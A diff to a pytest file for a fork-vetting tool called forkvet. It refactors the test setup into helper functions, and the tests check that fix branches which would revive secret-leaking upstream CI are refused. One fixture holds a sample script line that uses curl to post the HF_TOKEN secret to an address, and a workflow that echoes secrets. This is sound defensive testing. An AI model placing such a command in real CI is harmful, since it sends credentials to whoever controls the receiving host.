@@ -34,19 +34,33 @@ def tree(repo: Path, ref: str) -> list[str]:
     return git(repo, "ls-tree", "-r", "--name-only", ref).split()
 
 
-@pytest.fixture
-def hostile(tmp_path: Path) -> dict[str, Path]:
-    """An upstream that adds a GPU workflow reading secrets after the fork was made; the
-    fork's remote (a bare repository) and a checkout of it with one fix pushed."""
+def forked(tmp_path: Path, files: dict[str, str]) -> tuple[Path, Path, Path]:
+    """(upstream, the fork's remote: a bare clone, a checkout of the fork) of an upstream
+    whose first commit holds `files`."""
     up = tmp_path / "upstream"
     up.mkdir()
     git(up, "init", "-q", "-b", "main")
-    commit(up, UPSTREAM_FILES, "DeepNet release", "Jane Doe")
+    commit(up, files, "DeepNet release", "Jane Doe")
     remote = bare_clone(up, tmp_path / "fork.git")
     fork = tmp_path / "fork"
     subprocess.run(["git", "clone", "-q", str(remote), str(fork)], check=True)
     git(fork, "config", "user.name", "Fork Owner")
     git(fork, "config", "user.email", "owner@example.org")
+    return up, remote, fork
+
+
+def open_args(fork: Path, up: Path, remote: Path) -> list[str]:
+    """`forkvet upstream --open` against a fork whose pushes go to `remote` (no API)."""
+    args = ["upstream", str(fork), "--upstream", str(up), "--open", "--format", "json"]
+    args += ["--upstream-repo", "upstream-org/model", "--fork-repo", "acme/model"]
+    return [*args, "--api-url", "http://127.0.0.1:9", "--push-url", str(remote)]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> dict[str, Path]:
+    """An upstream that adds a GPU workflow reading secrets after the fork was made; the
+    fork's remote (a bare repository) and a checkout of it with one fix pushed."""
+    up, remote, fork = forked(tmp_path, UPSTREAM_FILES)
     commit(up, {WORKFLOW: HOSTILE}, "ci: add GPU job", "Up Stream")
     commit(fork, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
     git(fork, "push", "-q", "origin", "HEAD:main")
@@ -140,24 +154,14 @@ def test_a_branch_reviving_a_workflow_the_fork_removed_is_not_pushed(
     """The fork point may hold CI the fork has since removed or changed: such a branch would
     run it again on a push. Refused, with what to do; a fix that changes a workflow itself
     is pushed."""
-    up = tmp_path / "upstream"
-    up.mkdir()
-    git(up, "init", "-q", "-b", "main")
     nightly = ".github/workflows/nightly ü.yml"  # a name git quotes unless told not to
-    commit(up, {**UPSTREAM_FILES, WORKFLOW: HOSTILE, nightly: HOSTILE}, "DeepNet", "Jane Doe")
-    remote = bare_clone(up, tmp_path / "fork.git")
-    fork = tmp_path / "fork"
-    subprocess.run(["git", "clone", "-q", str(remote), str(fork)], check=True)
-    git(fork, "config", "user.name", "Fork Owner")
-    git(fork, "config", "user.email", "owner@example.org")
+    up, remote, fork = forked(tmp_path, {**UPSTREAM_FILES, WORKFLOW: HOSTILE, nightly: HOSTILE})
     git(fork, "rm", "-q", WORKFLOW, nightly)
     git(fork, "commit", "-q", "-m", "Remove upstream's CI: not on our runners")
     commit(fork, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
     git(fork, "push", "-q", "origin", "HEAD:main")
     monkeypatch.setenv("FORKVET_USER_TOKEN", "unused-token")
-    args = ["upstream", str(fork), "--upstream", str(up), "--open", "--format", "json"]
-    args += ["--upstream-repo", "upstream-org/model", "--fork-repo", "acme/model"]
-    args += ["--api-url", "http://127.0.0.1:9", "--push-url", str(remote)]
+    args = open_args(fork, up, remote)
     fix = git(fork, "rev-parse", "HEAD")
     code, out, _ = run([*args, "--commits", fix], capsys)
     draft = json.loads(out)["drafts"][0]
@@ -242,26 +246,17 @@ def test_a_branch_reviving_a_script_the_fork_changed_is_not_pushed(
     it that sent a secret away. A fix branch starts at the fork point, so it holds the old
     script, and a push would run it with the fork's secrets: any file the branch would add
     or change against the fork, not only CI files, is refused unless a fix changes it."""
-    up = tmp_path / "upstream"
-    up.mkdir()
-    git(up, "init", "-q", "-b", "main")
     script = "scripts/ci.sh"
     leaky = 'python -m pytest\ncurl -d "$HF_TOKEN" http://127.0.0.1:9/\n'
     ours = HOSTILE.replace("echo ${{ secrets.HF_TOKEN }}", "bash scripts/ci.sh")
-    commit(up, {**UPSTREAM_FILES, WORKFLOW: ours, script: leaky}, "DeepNet", "Jane Doe")
-    remote = bare_clone(up, tmp_path / "fork.git")
-    fork = tmp_path / "fork"
-    subprocess.run(["git", "clone", "-q", str(remote), str(fork)], check=True)
-    git(fork, "config", "user.name", "Fork Owner")
-    git(fork, "config", "user.email", "owner@example.org")
+    up, remote, fork = forked(tmp_path, {**UPSTREAM_FILES, WORKFLOW: ours, script: leaky})
     commit(fork, {script: "python -m pytest\n"}, "ci: send nothing anywhere")
     commit(fork, FIX, "Fix NaN in loss when the batch is empty", "Bea Fixer")
     git(fork, "push", "-q", "origin", "HEAD:main")
     monkeypatch.setenv("FORKVET_USER_TOKEN", "unused-token")
-    args = ["upstream", str(fork), "--upstream", str(up), "--open", "--format", "json"]
-    args += ["--upstream-repo", "upstream-org/model", "--fork-repo", "acme/model"]
-    args += ["--api-url", "http://127.0.0.1:9", "--push-url", str(remote)]
-    code, out, _ = run([*args, "--commits", git(fork, "rev-parse", "HEAD")], capsys)
+    code, out, _ = run(
+        [*open_args(fork, up, remote), "--commits", git(fork, "rev-parse", "HEAD")], capsys
+    )
     draft = json.loads(out)["drafts"][0]
     assert code == 1 and draft["status"] == "refused", draft
     assert script in draft["message"] and "git cherry-pick -x" in draft["message"]
